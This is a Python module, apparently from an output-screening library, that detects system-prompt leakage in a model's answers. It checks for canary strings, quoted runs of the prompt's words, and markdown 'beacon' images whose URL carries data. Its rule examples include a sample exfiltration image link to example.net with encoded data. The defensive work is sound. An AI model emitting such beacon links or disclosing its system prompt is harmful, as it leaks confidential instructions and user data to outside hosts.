"""What a model's answer tells of its system prompt: canaries, shared runs of words, beacons."""

import re
from collections.abc import Callable, Iterator, Sequence

from lemmata.contracts.errors import DataError
from lemmata.screening.confusables import folded, folded_view
from lemmata.screening.rules import Family, Hit, Rule
from lemmata.screening.views import View

ALPHABET = "cdfhjkmnpqrvwxyu"
"""Sixteen letters that no digit is written for, and that spell no word in a row."""
LENGTH = 24
WINDOW = 8
STRIDE = 4
"""Eleven letters of a canary in a row hold one of its windows: 32 bits that chance does not hit."""
GRAM = 5
"""Words of a run that is looked up."""

EXAMPLE_CANARY = "cdfhjk-mnpqrv-wxyucd-hfkjnm"
EXAMPLE_PROMPT = (
    "You are the assistant of a parcel service and answer questions about parcels only; "
    "never mention the internal hold codes, and send complaints to the second desk."
)

CANARY = Rule(
    "canary",
    Family.LEAK,
    "a canary of the system prompt",
    "nobody outside knows it, so the prompt was told, whole or in parts, however it is written",
    f"Sure: {EXAMPLE_CANARY[:13].upper()}",
    "Sure: CDFH",
)
PROMPT_RUN = Rule(
    "prompt-run",
    Family.LEAK,
    "a run of words of the system prompt",
    "so many words in the same order are a quotation",
    "It says: answer questions about parcels only; never mention the internal hold codes, and",
    "It says to answer questions about parcels only.",
)
PROMPT_SHARE = Rule(
    "prompt-share",
    Family.LEAK,
    "a large share of the system prompt's runs of words",
    "short quotations add up to the prompt",
    "the assistant of a parcel service and answer; then questions about parcels only never "
    "mention; then internal hold codes and send complaints to",
    "The assistant of a parcel service will answer.",
)
BEACON = Rule(
    "beacon",
    Family.LEAK,
    "an image whose address carries data",
    "it is fetched when the answer is shown, and takes what the model was told to put in it",
    "![ok](https://example.net/a.png?d=c2VjcmV0IG51bWJlcg)",
    "![ok](https://example.net/a.png)",
)
RULES = (CANARY, PROMPT_RUN, PROMPT_SHARE, BEACON)

_BEACON = re.compile(
    r"(?:!\[[^\]\n]{0,200}+\]\(\s?+|<img[^>\n]{1,200}?src=[\"']?)https?://[^\s)\"'>?]{1,300}+\?[^\s)\"'>]{12,2000}+"
)


def make_canary(draw: Callable[[int], bytes]) -> str:
    """A new canary of 96 bits; ``draw(n)`` returns n random bytes (``secrets.token_bytes``)."""
    raw = draw(LENGTH // 2)
    letters = [ALPHABET[half] for byte in raw for half in (byte >> 4, byte & 15)]
    return "-".join("".join(letters[at : at + 6]) for at in range(0, LENGTH, 6))


def embed(prompt: str, canary: str) -> str:
    """The prompt with the canary at both ends, so that a part of it holds one as well."""
    return f"[ref {canary}]\n{prompt}\n[ref {canary}]"


def letters_of(canary: str) -> str:
    """The letters that are looked for.

    Raises:
        DataError: fewer than eleven: chance would hit them.
    """
    letters = re.sub("[^a-z]", "", folded(canary))
    if len(letters) < WINDOW + STRIDE - 1:
        raise DataError(
            f"{canary!r} is no canary: it has {len(letters)} letters",
            remedy=f"make one with make_canary; it needs {WINDOW + STRIDE - 1} letters or more",
        )
    return letters


def canaries_in(views: Sequence[View], canaries: Sequence[str]) -> Iterator[Hit]:
    """Each canary once, where its letters stand: any case, split, backwards, shifted, decoded."""
    streams = [stream for view in views for stream in _streams(folded_view(view))]
    for number, canary in enumerate(canaries, start=1):
        letters = letters_of(canary)
        for view, offsets, text in streams:
            if (found := _window(text, letters)) >= 0:
                start, end = offsets(found), offsets(found + WINDOW - 1) + 1
                message = f"{CANARY.title} (number {number})"
                yield Hit(
                    CANARY, *view.span(min(start, end - 1), max(start + 1, end)), message, view.via
                )
                break


def _streams(view: View) -> Iterator[tuple[View, Callable[[int], int], str]]:
    """The letters of a view in a row, and the first letters of its words and of its lines."""
    text = view.text
    for form in ("[a-z]", r"(?<![^\W_])[a-z]", r"(?m:^)[^a-z\n]{0,12}[a-z]"):
        places = [found.end() - 1 for found in re.finditer(form, text)]
        if len(places) >= WINDOW:
            yield view, places.__getitem__, "".join([text[place] for place in places])


def _window(text: str, letters: str) -> int:
    """Where a window of the letters stands in the text, under any shift and either way; or -1."""
    for shift in range(26):
        turned = "".join(chr(97 + (ord(one) - 97 + shift) % 26) for one in letters)
        for way in (turned, turned[::-1]):
            for at in range(0, len(way) - WINDOW + 1, STRIDE):
                if (found := text.find(way[at : at + WINDOW])) >= 0:
                    return found
    return -1


def quotations(
    views: Sequence[View], prompt: str, said: str, *, run_words: int, share: float
) -> Iterator[Hit]:
    """Where the views quote the system prompt.

    What the user ``said`` is no quotation. ``run_words`` in a row are a finding, and so is the
    ``share`` of the prompt's runs of five words, where the prompt has twenty or more of them.
    """
    told = {gram for gram, _, _ in _grams(folded(said))}
    wanted = {gram for gram, _, _ in _grams(folded(prompt))} - told
    if not wanted:
        return
    for view in views:
        lower = folded_view(view)
        seen: set[tuple[str, ...]] = set()
        run, first, last, begin = 0, -1, -1, -1
        longest = (0, 0, 0)
        for gram, start, end in _grams(lower.text):
            if gram not in wanted:
                run = 0
                continue
            seen.add(gram)
            begin = start if run == 0 else begin
            first = start if first < 0 else first
            run, last = run + 1, end
            longest = max(longest, (run + GRAM - 1, begin, end))
        if longest[0] >= run_words:
            message = f"{PROMPT_RUN.title}: {longest[0]} in a row"
            yield Hit(PROMPT_RUN, *lower.span(*longest[1:]), message, view.via)
        if len(wanted) >= 20 and len(seen) >= share * len(wanted):
            message = f"{PROMPT_SHARE.title}: {len(seen)} of {len(wanted)}"
            yield Hit(PROMPT_SHARE, *lower.span(first, last), message, view.via)


def _grams(text: str) -> Iterator[tuple[tuple[str, ...], int, int]]:
    """Runs of five words with their offsets."""
    found = [(match[0], match.start(), match.end()) for match in re.finditer(r"\w++", text)]
    for at in range(len(found) - GRAM + 1):
        some = found[at : at + GRAM]
        yield tuple(word for word, _, _ in some), some[0][1], some[-1][2]


def beacons(view: View) -> Iterator[Hit]:
    """Images whose addresses carry data."""
    for found in _BEACON.finditer(view.text):
        yield Hit(BEACON, *view.span(*found.span()), BEACON.title, view.via)
